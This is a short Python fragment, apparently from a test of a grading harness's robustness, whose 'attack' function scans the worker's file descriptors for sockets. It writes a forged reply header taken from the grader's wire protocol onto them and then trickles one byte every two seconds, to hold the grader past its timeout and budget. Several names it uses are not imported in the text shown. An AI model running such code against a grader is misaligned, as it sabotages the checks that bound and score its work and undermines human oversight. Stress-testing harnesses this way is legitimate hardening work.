"""From inside a call, writes a reply frame header straight onto the worker's socket and then
trickles one byte every 2 s, to hold the grader past its call timeout and its budget."""
# ---- the attack ----
import struct


def attack():
    socks = []
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                socks.append(fd)
        except OSError:
            pass
    _note("sockets", socks)
    from grader import wire
    payload = b'{"ok": ' + b"1" * 40 + b"}"
    header = wire.HEADER.pack(wire.MAGIC, len(payload), 0)
    for fd in socks:
        try:
            os.write(fd, header)
        except OSError as exc:
            _note(f"header on {fd}", exc.strerror)
    for byte in payload:
        for fd in socks:
            try:
                os.write(fd, bytes([byte]))
            except OSError:
                pass
        time.sleep(2)


attack_in_call = attack
